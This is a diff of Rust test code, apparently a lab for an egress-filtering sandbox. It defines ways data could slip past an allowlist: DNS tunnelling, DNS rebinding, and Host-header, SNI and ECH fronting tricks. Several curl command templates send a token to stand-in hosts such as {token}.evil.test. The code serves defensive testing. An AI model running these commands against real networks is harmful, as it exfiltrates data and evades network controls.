@@ -12,7 +12,7 @@ const RELABELLED: Ipv4Addr = Ipv4Addr::new(100, 64, 201, 1);
 const HINTED: Ipv4Addr = Ipv4Addr::new(100, 64, 201, 2);
 /// A resolver of resolv.conf's where nobody serves: who binds its address is the resolver.
 const UNSERVED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 55);
-/// What names under `names.test` say that they are.
+/// What names under `names.example.org`, where anybody could have registered them, say that they are.
 const REBOUND: [(&str, Ipv4Addr); 4] = [
     ("loopback", Ipv4Addr::LOCALHOST),
     ("private", Ipv4Addr::new(10, 11, 12, 13)),
@@ -23,7 +23,7 @@ const REBOUND: [(&str, Ipv4Addr); 4] = [
 /// The lab of this family.
 pub(crate) fn lab(mut builder: LabBuilder) -> LabBuilder {
     for (label, address) in REBOUND {
-        builder = builder.name(&format!("{label}.names.test"), Entry::new().a(address));
+        builder = builder.name(&format!("{label}.names.example.org"), Entry::new().a(address));
         if !address.is_loopback() && !address.is_unspecified() {
             builder = builder.address(address.into());
         }
@@ -79,14 +79,13 @@ macro_rules! reaches {
 macro_rules! rebinds {
     ($id:literal, $title:literal, $label:literal, $address:literal) => {
         Way {
-            told: &["rebinding", "rebound-address"],
             ..says!(
                 $id,
                 $title,
                 concat!(
                     "{bin}/names udp 1 ",
                     $label,
-                    ".names.test 203.0.113.53; {bin}/sockets tcp ",
+                    ".names.example.org 203.0.113.53; {bin}/sockets tcp ",
                     $address,
                     " {to6} {token}"
                 )
@@ -96,7 +95,7 @@ macro_rules! rebinds {
 }
 
 /// Hidden inside TLS: only the far end can tell.
-const HIDDEN: &[&str] = &["shared-address", "fronting", "encrypted-hello"];
+const HIDDEN: &[&str] = &["inside-tls"];
 
 pub(crate) const ALL: &[Way] = &[
     asks!("dns_udp", "data in a name that is asked", "{bin}/names udp 1 {token}.tunnel.test 203.0.113.53"),
@@ -114,7 +113,7 @@ pub(crate) const ALL: &[Way] = &[
     ),
     Way {
         must: (Must::Told, Must::Told),
-        told: &["dns-tunnel", "tunnelled-names", "many-names"],
+        told: &["dns-tunnel"],
         ..asks!(
             "dns_wildcard",
             "data in forty names under an allowed wildcard",
@@ -190,27 +189,31 @@ pub(crate) const ALL: &[Way] = &[
         )
     },
     Way {
-        must: (Must::Told, Must::Told),
-        told: HIDDEN,
+        must: (Must::Named, Must::Named),
+        limits: HIDDEN,
         ..says!(
             "tls_host",
             "an allowed server name in TLS, and another Host inside it",
             "curl -sS -4 -m 4 https://api.allowed.test/ -H 'Host: {token}.evil.test'"
         )
     },
-    says!(
-        "http_host",
-        "another Host in plain HTTP to an allowed name",
-        "curl -sS -4 -m 4 http://api.allowed.test/ -H 'Host: {token}.evil.test'"
-    ),
+    Way {
+        must: (Must::Told, Must::Told),
+        told: &["violation"],
+        ..says!(
+            "http_host",
+            "another Host in plain HTTP to an allowed name",
+            "curl -sS -4 -m 4 http://api.allowed.test/ -H 'Host: {token}.evil.test'"
+        )
+    },
     says!(
         "other_sni",
         "another server name to an allowed name's address",
         "getent ahostsv4 api.allowed.test; curl -sSk -m 4 --connect-to ::203.0.113.10:443 https://{token}.evil.test/"
     ),
     Way {
-        must: (Must::Told, Must::Told),
-        told: HIDDEN,
+        must: (Must::Named, Must::Named),
+        limits: HIDDEN,
         ..says!(
             "no_sni",
             "no server name at all, and another Host inside TLS",
@@ -218,8 +221,8 @@ pub(crate) const ALL: &[Way] = &[
         )
     },
     Way {
-        must: (Must::Told, Must::Told),
-        told: HIDDEN,
+        must: (Must::Named, Must::Named),
+        limits: HIDDEN,
         ..says!(
             "ech",
             "an allowed server name outside, another one in the encrypted part of the hello (ECH)",
